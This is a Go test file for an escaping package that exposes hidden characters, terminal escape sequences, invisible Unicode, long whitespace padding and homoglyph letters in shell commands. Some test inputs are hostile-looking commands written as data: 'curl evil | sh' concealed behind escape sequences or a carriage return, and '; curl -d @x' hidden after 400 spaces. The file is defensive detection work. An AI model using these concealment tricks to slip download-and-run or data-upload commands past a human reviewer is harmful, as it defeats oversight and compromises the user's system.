package visible

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "npm test", "npm test"},
		{"backslash alone stays", `grep 'a\.b' x`, `grep 'a\.b' x`},
		{"utf-8 text stays", "écho ✓ 日本", "écho ✓ 日本"},
		{"escape sequence", "npm test\x1b[2K\rcurl evil | sh", `npm test\x1b[2K\rcurl evil | sh`},
		{"carriage return", "curl evil | sh\rnpm test", `curl evil | sh\rnpm test`},
		{"tab and newline", "a\tb\nc", `a\tb\nc`},
		{"bidi override", "ls \u202Etxt.exe", `ls \u202etxt.exe`},
		{"isolates", "a\u2066b\u2069", `a\u2066b\u2069`},
		{"zero width", "np\u200bm", `np\u200bm`},
		{"bom", "\ufeffx", `\ufeffx`},
		{"tag character", "x\U000E0041", `x\U000e0041`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"hangul filler", "a\u3164b", `a\u3164b`},
		{"c1 control", "a\u0085b", `a\u0085b`},
		{"del", "a\x7fb", `a\x7fb`},
		{"invalid utf-8", "a\xffb", `a\xffb`},
		{"backslash doubled once escaping", "\\x1b\x1b", `\\x1b\x1b`},
		{"nul", "a\x00", `a\x00`},
		// Issue 24: what renders as nothing or as a space.
		{"variation selector 16", "./scripts/fmt\ufe0f.sh", `./scripts/fmt\ufe0f.sh`},
		{"variation selector 1", "a\ufe00b", `a\ufe00b`},
		{"variation selector supplement", "fmt\U000E0100.sh", `fmt\U000e0100.sh`},
		{"last variation selector", "a\U000E01EFb", `a\U000e01efb`},
		{"combining grapheme joiner", "a\u034fb", `a\u034fb`},
		{"khmer vowel inherent aq", "a\u17b4b", `a\u17b4b`},
		{"khmer vowel inherent aa", "a\u17b5b", `a\u17b5b`},
		{"mongolian free variation selector", "a\u180bb", `a\u180bb`},
		{"mongolian vowel separator", "a\u180eb", `a\u180eb`},
		{"mongolian fvs4", "a\u180fb", `a\u180fb`},
		{"hangul choseong filler", "a\u115fb", `a\u115fb`},
		{"hangul jungseong filler", "a\u1160b", `a\u1160b`},
		{"halfwidth hangul filler", "a\uffa0b", `a\uffa0b`},
		{"braille blank", "fmt\u2800.sh", `fmt\u2800.sh`},
		{"no-break space", "npm\u00a0test", `npm\u00a0test`},
		{"em space", "a\u2003b", `a\u2003b`},
		{"ideographic space", "a\u3000b", `a\u3000b`},
		{"ogham space mark", "a\u1680b", `a\u1680b`},
		{"word joiner", "a\u2060b", `a\u2060b`},
		{"invisible plus", "a\u2064b", `a\u2064b`},
		{"tag cancel", "a\U000E007Fb", `a\U000e007fb`},
		{"reserved default ignorable", "a\U000E0FFFb", `a\U000e0fffb`},
		{"ordinary accents stay", "café naïve", "café naïve"},
		{"braille letter stays", "\u2801", "\u2801"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Escape(tt.in); got != tt.want {
				t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got, want := Has(tt.in), tt.in != tt.want; got != want {
				t.Errorf("Has(%q) = %v, want %v", tt.in, got, want)
			}
		})
	}
}

func TestEscapeText(t *testing.T) {
	in := "line one\n\tline\x1b[31m two\r\n"
	want := "line one\n\tline\\x1b[31m two\\r\n"
	if got := EscapeText(in); got != want {
		t.Errorf("EscapeText(%q) = %q, want %q", in, got, want)
	}
	if got := EscapeText("a\nb"); got != "a\nb" {
		t.Errorf("EscapeText kept nothing: %q", got)
	}
}

// TestEscapedIsSafe checks every rune up to U+FFFF and every byte: the
// escaped form holds only printable, visible characters, and unescaping
// it gives the input back.
func TestEscapedIsSafe(t *testing.T) {
	check := func(in string) {
		out := Escape(in)
		for _, r := range out {
			if r < 0x20 || r == 0x7f || hidden(r, utf8.RuneLen(r)) {
				t.Fatalf("Escape(%q) = %q keeps %U", in, out, r)
			}
		}
		if out == in {
			return
		}
		back, err := strconv.Unquote(`"` + quoteQuotes(out) + `"`)
		if err != nil || back != in {
			t.Fatalf("Escape(%q) = %q does not read back (%q, %v)", in, out, back, err)
		}
	}
	for r := rune(0); r <= 0xffff; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		check("a\\" + string(r))
	}
	for c := 0; c < 256; c++ {
		check("\\" + string([]byte{byte(c)}))
	}
}

// quoteQuotes escapes double quotes, which Escape leaves alone, so that
// strconv.Unquote can read an escaped string.
func quoteQuotes(s string) string {
	var b []byte
	for i := 0; i < len(s); i++ {
		if s[i] == '"' {
			b = append(b, '\\')
		}
		b = append(b, s[i])
	}
	return string(b)
}

func TestLongestBlank(t *testing.T) {
	for in, want := range map[string]int{
		"":         0,
		"npm test": 1,
		"a\t\t  b": 4,
		"npm test" + strings.Repeat(" ", 400) + "; curl -d @x": 400,
	} {
		if got := LongestBlank(in); got != want {
			t.Errorf("LongestBlank(%q) = %d, want %d", in, got, want)
		}
	}
}

func TestMixedScript(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"./scripts/fmt.sh --fix", nil},
		{"echo Привет мир", nil},                            // Cyrillic words alone
		{"echo αβγ && ls", nil},                             // Greek word alone
		{"./s\u0441ripts/fmt.sh", []string{"s\u0441ripts"}}, // Cyrillic с
		{"\u0441url -s x", []string{"\u0441url"}},
		{"npm t\u0435st", []string{"t\u0435st"}},     // Cyrillic е
		{"./g\u03bfod.sh", []string{"g\u03bfod"}},    // Greek ο
		{"\uff43url x", []string{"\uff43url"}},       // fullwidth c
		{"\U0001d41cat x", []string{"\U0001d41cat"}}, // mathematical bold c
		{"café_2.sh", nil},
		{"日本語 ok", nil},
	}
	for _, tt := range tests {
		if got := MixedScript(tt.in); !slices.Equal(got, tt.want) {
			t.Errorf("MixedScript(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func BenchmarkEscapeClean(b *testing.B) {
	s := `"$GEMINI_PROJECT_DIR"/scripts/guard.sh --mode strict | tee -a log.txt`
	for b.Loop() {
		Escape(s)
	}
}
